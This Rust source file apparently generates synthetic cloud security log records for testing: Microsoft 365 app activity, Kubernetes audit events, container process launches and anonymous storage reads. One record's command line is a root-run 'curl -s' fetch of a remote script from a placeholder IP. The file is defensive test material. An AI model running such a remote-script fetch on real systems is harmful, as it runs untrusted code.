//! The tables of clouds: what people do in applications, and what happens to resources.

use super::{Scene, Values};
use crate::json::Json;
use crate::object;

/// Action, kind of activity, application, kind of object, object, whether an administrator's.
const ACTIVITIES: [(&str, &str, &str, &str, &str, bool); 8] = [
    ("FileDownloaded", "Download", "Microsoft SharePoint Online", "File", "Rechnung_März.docm", false),
    ("FileAccessed", "View", "Microsoft OneDrive for Business", "File", "Bilanz 2026.xlsx", false),
    ("FileDeleted", "Delete", "Microsoft SharePoint Online", "File", "alt.zip", false),
    ("MailItemsAccessed", "Run", "Microsoft Exchange Online", "Task", "MailItemsAccessed", false),
    ("New-InboxRule", "Create", "Microsoft Exchange Online", "Task", "New-InboxRule", true),
    ("Add member to role.", "Add", "Office 365", "Role", "Global Administrator", true),
    ("UserLoggedIn", "Log on", "Microsoft 365", "Task", "UserLoggedIn", false),
    ("UserLoginFailed", "Failed log on", "Microsoft 365", "Task", "UserLoginFailed", false),
];

pub(super) fn app(scene: &mut Scene<'_>) -> Values {
    let (action, activity, application, kind, object, is_admin) = scene.pick(&ACTIVITIES);
    let address = scene.outside();
    // The service's own event stands inside; some are long, and some have a time of their own under the column's name.
    let folders = (0..scene.pick(&[1, 3, 60])).map(|number| {
        object! { "Id" => scene.chance.hex(40), "InternetMessageId" => format!("<{number}@mail.example.org>"), "SizeInBytes" => 584_240 }
    });
    let items: Vec<Json> = folders.collect();
    let raw = object! {
        "Timestamp" => "2001-01-01T00:00:00Z", "CreationTime" => scene.at, "Operation" => action, "ClientIP" => &address,
        "UserId" => &scene.person.principal, "ResultStatus" => "Succeeded", "Workload" => "Exchange", "RecordType" => 50,
        "Folders" => Json::List(items),
    };
    let actor = object! {
        "Type" => "User", "Role" => "Actor", "Name" => &scene.person.name, "Id" => &scene.person.object_id, "ApplicationId" => 11_161,
    };
    let target = object! { "Type" => kind, "Role" => "Target object", "Name" => object };
    vec![
        ("ActionType", action.into()),
        ("ActivityType", activity.into()),
        ("Application", application.into()),
        ("ApplicationId", 20_893.into()),
        ("AppInstanceId", 0.into()),
        ("AccountObjectId", {
            let id = scene.person.object_id.clone();
            scene.some(90, id)
        }),
        ("AccountId", (&scene.person.principal).into()),
        ("AccountDisplayName", (&scene.person.name).into()),
        ("AccountType", (if is_admin { "Admin" } else { "Regular" }).into()),
        ("IsAdminOperation", is_admin.into()),
        ("DeviceType", scene.some(60, "Desktop")),
        ("OSPlatform", scene.some(60, "Windows 11")),
        ("IPAddress", address.into()),
        ("IsAnonymousProxy", false.into()),
        ("CountryCode", scene.some(80, "DE")),
        ("City", scene.some(80, "münchen")),
        ("ISP", scene.some(80, "Beispiel Netz")),
        ("IPTags", Json::from(["Tor"])),
        ("IPCategory", scene.some(50, "Risky")),
        ("UserAgent", scene.some(80, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")),
        ("ActivityObjects", Json::List(vec![target, actor])),
        ("ObjectName", object.into()),
        ("ObjectType", kind.into()),
        ("IsExternalUser", false.into()),
        ("IsImpersonated", false.into()),
        ("RawEventData", raw),
        ("AdditionalFields", object! { "IsSatelliteProvider" => false }),
        ("UncommonForUser", Json::from(["ISP", "UserAgent"])),
        ("LastSeenForUser", object! { "ActionType" => 0, "ISP" => 3 }),
        ("AuditSource", "Defender for Cloud Apps app connector".into()),
        ("ReportId", format!("98261974_20893_{}", scene.chance.guid()).into()),
    ]
}

const CLUSTER: &str = "/subscriptions/1-2-3-4/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/aks-süd";

pub(super) fn audit(scene: &mut Scene<'_>) -> Values {
    let (source, operation) = scene.pick(&[
        ("Azure Kubernetes Service", "watch"),
        ("Azure Kubernetes Service", "delete"),
        ("Azure Resource Manager", "MICROSOFT.STORAGE/STORAGEACCOUNTS/WRITE"),
        ("Azure Resource Manager", "MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE"),
    ]);
    let addresses = [scene.outside(), scene.outside()].join(",");
    let raw = object! {
        "Timestamp" => scene.earlier(500), "Verb" => operation, "SourceIPs" => Json::from(["192.0.2.1"]),
        "User" => object! { "username" => "system:serviceaccount:cert-manager:cert-manager" },
    };
    vec![
        ("AuditSource", "Azure".into()),
        ("DataSource", source.into()),
        ("ActionType", "CloudAuditEventOther".into()),
        ("OperationName", operation.into()),
        ("AzureResourceId", CLUSTER.into()),
        ("Account", (&scene.person.object_id).into()),
        ("IPAddress", addresses.into()),
        ("UserAgent", "controller/v0.0.0 (linux/amd64) kubernetes/$Format".into()),
        ("RawEventData", raw),
        ("ReportId", scene.chance.guid().into()),
    ]
}

pub(super) fn process(scene: &mut Scene<'_>) -> Values {
    vec![
        ("AzureResourceId", CLUSTER.into()),
        ("ContainerImageName", "registry.example/shop:1.2".into()),
        ("KubernetesResource", "deployment/shop".into()),
        ("ContainerName", "shop".into()),
        ("ActionType", "ProcessCreated".into()),
        ("FileName", "curl".into()),
        ("FolderPath", "/usr/bin/curl".into()),
        ("ProcessId", (1 + scene.chance.below(30_000) as i64).into()),
        ("ProcessName", "curl".into()),
        ("ParentProcessName", "sh".into()),
        ("ParentProcessId", (1 + scene.chance.below(30_000) as i64).into()),
        ("ProcessCommandLine", "curl -s http://198.51.100.23/x.sh".into()),
        ("ProcessCreationTime", scene.at.into()),
        ("ProcessCurrentWorkingDirectory", "/srv/shop".into()),
        ("AccountName", "root".into()),
        ("LogonId", 0.into()),
        ("InitiatingProcessId", 1.into()),
        ("AdditionalFields", object! { "Node" => "aks-node-1", "Timestamp" => "2001-01-01T00:00:00Z" }),
        ("ReportId", scene.chance.guid().into()),
    ]
}

pub(super) fn storage(scene: &mut Scene<'_>) -> Values {
    let count = 1 + scene.chance.below(900) as i64;
    vec![
        ("DataAggregationStartTime", scene.earlier(3_600)),
        ("DataAggregationEndTime", scene.at.into()),
        ("DataSource", "Azure Storage".into()),
        ("SubscriptionId", "1-2-3-4".into()),
        ("ResourceGroup", "rg".into()),
        ("StorageAccount", "belege".into()),
        ("ServiceType", "Blob".into()),
        ("IPAddress", scene.outside().into()),
        ("UserAgentHeader", "azcopy/10.2".into()),
        ("OperationNamesList", Json::from(["GetBlob", "ListBlobs"])),
        ("AuthenticationType", "SAS".into()),
        ("AccountType", "Anonymous".into()),
        ("OperationsCount", count.into()),
        ("SuccessfulOperationsCount", count.into()),
        ("FailedOperationsCount", 0.into()),
        ("TotalResponseLength", (count * 51_200).into()),
        ("DistinctGetOperations", count.into()),
        ("Md5Hashes", Json::from([scene.chance.hex(32)])),
        ("AzureResourceId", "/subscriptions/1-2-3-4/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/belege".into()),
        ("Location", "westeurope".into()),
        ("ActionType", "StorageAggregated".into()),
        ("AdditionalFields", object! { "IsTruncated" => false }),
        ("ReportId", scene.chance.guid().into()),
    ]
}
